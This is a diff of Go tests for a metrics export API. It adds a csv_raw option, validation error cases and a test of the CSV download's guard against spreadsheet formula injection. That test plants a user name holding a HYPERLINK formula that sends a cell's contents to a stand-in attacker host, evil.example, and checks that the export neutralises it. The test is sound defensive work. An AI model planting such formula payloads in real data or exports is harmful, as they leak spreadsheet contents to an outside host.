@@ -81,6 +81,7 @@ func TestExportMetricAPIGolden(t *testing.T) {
 	}
 	for _, tc := range []struct{ golden, params string }{
 		{"aov_raw.csv", "raw=1"},
+		{"aov_csv_raw.csv", "raw=1&csv_raw=1"},
 		{"aov_formatted.csv", ""},
 		{"aov_excel.csv", "preset=excel"},
 		{"aov_excel_de.csv", "preset=excel&delimiter=%3B&decimal=%2C"},
@@ -216,11 +217,17 @@ func TestExportMetricErrors(t *testing.T) {
 		{"/api/v1/export/metric/aov?delimiter=x", 400, "delimiter"},
 		{"/api/v1/export/metric/aov?decimal=,", 400, "decimal"}, // also the default delimiter
 		{"/api/v1/export/metric/aov?raw=maybe", 400, "raw"},
+		{"/api/v1/export/metric/aov?csv_raw=yes", 400, "csv_raw"},
+		{"/api/v1/export/metric/aov?csv_raw=1&format=xlsx", 400, "csv_raw"},
+		{"/api/v1/export/metric/aov?csv_raw=1&preset=excel", 400, "csv_raw"},
 		{"/api/v1/export/metric/aov?manifest=1&bundle=zip", 400, "manifest"},
 		{"/api/v1/export/metric/aov?grain=hour", 400, "grain"},
 		{"/api/v1/export/metric/aov?by=country", 200, ""},
 		{"/api/v1/export/metric/aov?by=colour", 400, "by"},
 		{"/api/v1/export/metric/nope", 404, ""},
+		// A custom metric's param, by the metric's own bounds (as the funnel page and the CLI).
+		{"/api/v1/export/metric/funnel_conversion?arg.window_days=100000", 400, "window_days"},
+		{"/api/v1/export/metric/funnel_conversion?arg.window_days=365", 200, ""},
 	} {
 		rec := get(t, srv, tc.target)
 		var body apiError
@@ -373,7 +380,7 @@ func TestPagedRows(t *testing.T) {
 	// An export stops reading pages at its row limit.
 	calls = nil
 	var buf bytes.Buffer
-	m, err := export.Text(&buf, []string{"n"}, paged(3, fetch, func(i int) []string { return []string{string(rune('0' + i))} }), export.Options{MaxRows: 4})
+	m, err := export.Text(&buf, []string{"n"}, nil, paged(3, fetch, func(i int) []string { return []string{string(rune('0' + i))} }), export.Options{MaxRows: 4})
 	if !errors.Is(err, export.ErrTruncated) || m.Rows != 4 || !slices.Equal(calls, []int{0, 3}) ||
 		!strings.HasPrefix(buf.String(), "n\n1\n2\n3\n4\nTRUNCATED: first 4 rows of more") {
 		t.Errorf("limited export: %v, %+v, fetched at %v:\n%s", err, m, calls, buf.String())
@@ -407,5 +414,35 @@ func TestQuarantineDownloadAll(t *testing.T) {
 	// The page says what the file holds.
 	if body := get(t, srv, "/data/quarantine").Body.String(); !strings.Contains(body, "every record that matches the filters, not only this page") {
 		t.Errorf("the records' download note is missing")
+	}
+}
+
+// A page table's CSV guards its text against being run as a formula by a spreadsheet (a user
+// named "=HYPERLINK(…)" becomes "'=HYPERLINK(…)"), and csv_raw=1 gives the text as stored.
+func TestTableDownloadFormulaGuard(t *testing.T) {
+	env := newAccessEnv(t, Config{TZ: "UTC"}, access.Config{}, Deps{})
+	ctx := context.Background()
+	evil := `=HYPERLINK("https://evil.example/?x="&A1,"Click")`
+	if _, err := env.svc.AddUser(ctx, "", access.User{Email: "evil@test", Name: evil, Role: access.RoleExecutive}, "long enough password"); err != nil {
+		t.Fatal(err)
+	}
+	admin := env.session(t, access.RoleAdmin)
+	for _, tc := range []struct{ params, want string }{
+		{"", "'" + evil},
+		{"&preset=excel", "'" + evil},
+		{"&csv_raw=1", evil},
+	} {
+		rec := env.send(t, ctx, http.MethodGet, "/admin/users?table=users&format=csv"+tc.params, &admin, nil, nil)
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\ufeff"))).ReadAll()
+		if rec.Code != http.StatusOK || err != nil {
+			t.Fatalf("%s: %d %v\n%s", tc.params, rec.Code, err, rec.Body.String())
+		}
+		i := slices.IndexFunc(rows, func(r []string) bool { return r[0] == "evil@test" })
+		if i < 0 || rows[i][1] != tc.want {
+			t.Errorf("%s: rows %q, want the name %q", tc.params, rows, tc.want)
+		}
+	}
+	if rec := env.send(t, ctx, http.MethodGet, "/admin/users?table=users&format=xlsx&csv_raw=1", &admin, nil, nil); rec.Code != http.StatusBadRequest {
+		t.Errorf("csv_raw with xlsx: %d", rec.Code)
 	}
 }
